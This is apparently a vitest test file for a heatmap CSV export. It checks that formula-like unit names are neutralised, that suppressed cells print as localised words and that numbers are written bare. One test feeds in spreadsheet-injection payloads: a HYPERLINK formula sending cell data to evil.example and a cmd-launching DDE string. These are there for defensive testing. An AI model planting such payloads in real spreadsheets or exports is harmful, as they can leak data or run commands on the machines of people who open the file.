/**
 * The heatmap's CSV from a hand-made result: what a spreadsheet would run is defused, a suppressed
 * cell is words and never a number, and the words follow the language asked for.
 */
import { describe, expect, it } from 'vitest';
import { translator } from '../../i18n/translate.js';
import type { OrgUnitRow } from '../orgUnits/sql.js';
import { heatmapCsv } from './csv.js';
import type { HeatmapCellResult, HeatmapResult, HeatmapRowResult } from './heatmap.js';

const cell = (fields: Partial<HeatmapCellResult> = {}): HeatmapCellResult => ({
  value: 3.25,
  count: 8,
  suppressed: false,
  reason: null,
  effectSize: null,
  belowParticipationTarget: null,
  ...fields,
});
const hidden = cell({ value: null, count: null, suppressed: true, reason: 'BELOW_MIN_GROUP_SIZE' });

const unit = (name: string): OrgUnitRow => ({
  __typename: 'OrgUnit',
  id: name,
  orgId: 'org',
  parentId: null,
  kind: 'TEAM',
  name,
  depth: 1,
});
const row = (name: string, cells: HeatmapCellResult[]): HeatmapRowResult => ({
  unit: unit(name),
  level: 1,
  peopleCount: 8,
  hasChildren: false,
  cells,
});

function result(rows: HeatmapRowResult[], fields: Partial<HeatmapResult> = {}): HeatmapResult {
  return {
    metric: 'SCORE',
    unit: null,
    path: [],
    programId: null,
    period: null,
    minGroupSize: 5,
    columns: [
      {
        capability: {
          __typename: 'Capability',
          id: 'c1',
          orgId: 'org',
          code: 'DELEGATION',
          names: { en: 'Delegation', fr: 'Délégation' },
          descriptions: {},
        },
        organisation: cell({ value: 3.5, count: 40 }),
      },
    ],
    total: null,
    rows,
    ...fields,
  } as HeatmapResult;
}

const linesOf = (csv: string) => csv.trimEnd().split('\r\n');

describe('the heatmap CSV', () => {
  it('defuses a unit name a spreadsheet would run as a formula', () => {
    const names = [
      '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
      '+1+cmd|/C calc!A0',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
    ];
    const lines = linesOf(
      heatmapCsv(result(names.map((name) => row(name, [cell()]))), 'en', translator('en')),
    );
    expect(lines.slice(2).map((line) => line.slice(0, line.indexOf('","TEAM"') + 1))).toEqual([
      '"\'=HYPERLINK(""https://evil.example/?q=""&A1,""Click"")"',
      '"\'+1+cmd|/C calc!A0"',
      '"\'-2+3"',
      '"\'@SUM(A1:A2)"',
      '"\'\t=1+1"',
      '"\'\r=1+1"',
    ]);
  });

  it('leaves ordinary names alone and writes numbers bare, a negative one too', () => {
    const csv = heatmapCsv(
      result([row('Team = A', [cell({ value: -0.1234, count: 6 })])], { metric: 'DELTA_FROM_BASELINE' }),
      'en',
      translator('en'),
    );
    expect(linesOf(csv)[2]).toBe('"Team = A","TEAM","1","8",-0.123,6');
  });

  it('words headers and suppressed cells in the language asked for, capabilities by their names in it', () => {
    const rows = [row('Équipe A', [hidden])];
    expect(linesOf(heatmapCsv(result(rows), 'fr', translator('fr')))).toEqual([
      '"Unité","Type","Niveau","Managers","Délégation","Délégation (n)"',
      '"Organisation","ORGANISATION","","",3.5,40',
      '"Équipe A","TEAM","1","8","masqué (sous la taille minimale de groupe)",""',
    ]);
    expect(linesOf(heatmapCsv(result(rows), 'en', translator('en')))).toEqual([
      '"Unit","Kind","Level","Managers","Delegation","Delegation (n)"',
      '"Organisation","ORGANISATION","","",3.5,40',
      '"Équipe A","TEAM","1","8","suppressed (below min group size)",""',
    ]);
  });
});
